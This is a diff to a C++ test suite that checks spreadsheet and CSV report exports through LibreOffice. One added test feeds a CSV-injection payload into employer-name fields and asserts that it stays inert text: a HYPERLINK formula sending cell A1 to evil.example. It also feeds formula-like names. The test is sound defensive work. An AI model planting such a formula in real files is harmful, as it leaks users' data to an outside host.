@@ -9,6 +9,8 @@
 #include "fixtures.hpp"
 #include "forms/import.hpp"
 #include "forms/layouts.hpp"
+#include "forms/report_files.hpp"
+#include "domain/validate.hpp"
 
 #include <cstdlib>
 #include <filesystem>
@@ -82,11 +84,16 @@ TEST_CASE("LibreOffice-made XLSX and XLS listing files import like their CSV sou
     fs::path src = w.dir / "listings.csv";
     fs::copy_file(kData + "/listings.csv", src);
     fs::copy_file(kData + "/targets.csv", w.dir / "targets.csv");
+    fs::copy_file(kData + "/leniency.csv", w.dir / "leniency.csv");
     const std::string in_csv = "CSV:44,34,76,1";
-    soffice(w.dir, "xlsx", in_csv, w.dir, {src, w.dir / "targets.csv"});
-    soffice(w.dir, "xls", in_csv, w.dir, {src});
+    soffice(w.dir, "xlsx", in_csv, w.dir, {src, w.dir / "targets.csv", w.dir / "leniency.csv"});
+    soffice(w.dir, "xls", in_csv, w.dir, {src, w.dir / "leniency.csv"});
     REQUIRE(fs::exists(w.dir / "listings.xlsx"));
     REQUIRE(fs::exists(w.dir / "listings.xls"));
+    // What the form allows, from LibreOffice's own XLSX and XLS (full-width digits, two header
+    // rows, numbers with extensions, no-break spaces, a filled-in footer).
+    check_leniency_import(import_listings((w.dir / "leniency.xlsx").string()));
+    check_leniency_import(import_listings((w.dir / "leniency.xls").string()));
 
     auto x = import_listings((w.dir / "listings.xlsx").string());
     CHECK(x.format == TableFormat::Xlsx);
@@ -104,9 +111,62 @@ TEST_CASE("LibreOffice-made XLSX and XLS listing files import like their CSV sou
     auto t = import_targets((w.dir / "targets.xlsx").string());
     REQUIRE(t.ok);
     REQUIRE(t.targets.size() == 3);
-    CHECK(t.targets[2].unit == "三山 经开区");
+    CHECK(t.targets[2].unit == "三山经开区"); // one line, as 附件5 writes it
     CHECK(t.targets[2].figures[kPlacedYear] == 800);
     CHECK(t.problems.empty());
+}
+
+TEST_CASE("CSV forms open in LibreOffice with formulas as text and every digit of long numbers") {
+    Workdir w;
+    ReportInput in = two_unions();
+    const std::string hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
+    for (auto& p : in.placements) {
+        p.employer_name = hostile;
+        p.work_place = "+芜湖";
+        in.revealed[p.attendee_id] = {"340225199110221234", "13855381234"};
+    }
+    in.placements[0].person_name = "@SUM(1+1)";
+    in.placements[1].person_name = "-2+3";
+    auto week = ReportWeek::parse("2024-W08")->period();
+    ExportOptions opt;
+    opt.kinds = {ReportKind::Detail, ReportKind::Insurance};
+    opt.xlsx = false;
+    auto r = write_reports(in, w.dir.string(), week, opt);
+    REQUIRE(r.ok);
+    REQUIRE(r.files.size() == 2);
+    std::vector<fs::path> files(r.files.begin(), r.files.end());
+    fs::create_directories(w.dir / "office");
+    soffice(w.dir, kCsvExport, "CSV:44,34,76,1", w.dir / "office", files);
+    auto detail = csv_grid(w.dir / "office" / fs::path(r.files[0]).filename());
+    auto insurance = csv_grid(w.dir / "office" / fs::path(r.files[1]).filename());
+
+    int rows = 0;
+    for (auto& row : detail) {
+        if (row.size() < 11 || row[0].empty() ||
+            !std::isdigit(static_cast<unsigned char>(row[0][0])))
+            continue;
+        ++rows;
+        CHECK(trim(row[2]) == "340225199110221234"); // not 3.40225199110221E+017
+        CHECK(trim(row[3]) == "13855381234");
+        CHECK(row[5] == "'" + hostile); // text, never the formula's 点我
+        CHECK(row[4] == "'+芜湖");
+        CHECK(trim(row[10]).size() == 8); // 20240216 stays a date as the form writes it
+    }
+    CHECK(rows == 3);
+    bool at = false, minus = false;
+    for (auto& row : detail)
+        for (auto& c : row) {
+            CHECK(c != "点我");
+            at = at || c == "'@SUM(1+1)";
+            minus = minus || c == "'-2+3";
+        }
+    CHECK(at);
+    CHECK(minus);
+    bool id_seen = false;
+    for (auto& row : insurance)
+        for (auto& c : row)
+            id_seen = id_seen || trim(c) == "340225199110221234";
+    CHECK(id_seen);
 }
 
 TEST_CASE("every report XLSX opens in LibreOffice with the form's headers, rows and totals") {
@@ -149,6 +209,9 @@ TEST_CASE("every report XLSX opens in LibreOffice with the form's headers, rows 
         REQUIRE(ours.size() == theirs.size());
         for (size_t r = 0; r < ours.size(); ++r) {
             INFO("row " << r + 1);
+            // A program reading our CSV drops the tab that keeps digits as text (csv_cell).
+            for (auto& c : ours[r])
+                if (!c.empty() && c[0] == '\t') c.erase(0, 1);
             CHECK(ours[r] == theirs[r]);
         }
         office[k] = theirs;
@@ -181,8 +244,8 @@ TEST_CASE("every report XLSX opens in LibreOffice with the form's headers, rows 
           std::vector<std::string>{"无为市", "2", "14", "0", "1", "2", "1", "0", "0", "1", "0"});
     CHECK(s[5] ==
           std::vector<std::string>{"南陵县", "1", "5", "1", "0", "1", "0", "1", "0", "0", "1"});
-    CHECK(s[6] == std::vector<std::string>{"三山 经开区", "0", "0", "0", "0", "0", "0", "0", "0",
-                                           "0", "0"});
+    CHECK(s[6] ==
+          std::vector<std::string>{"三山经开区", "0", "0", "0", "0", "0", "0", "0", "0", "0", "0"});
     CHECK(s[7] ==
           std::vector<std::string>{"总计", "3", "19", "1", "1", "3", "1", "1", "0", "1", "1"});
     int detail_rows = 0;
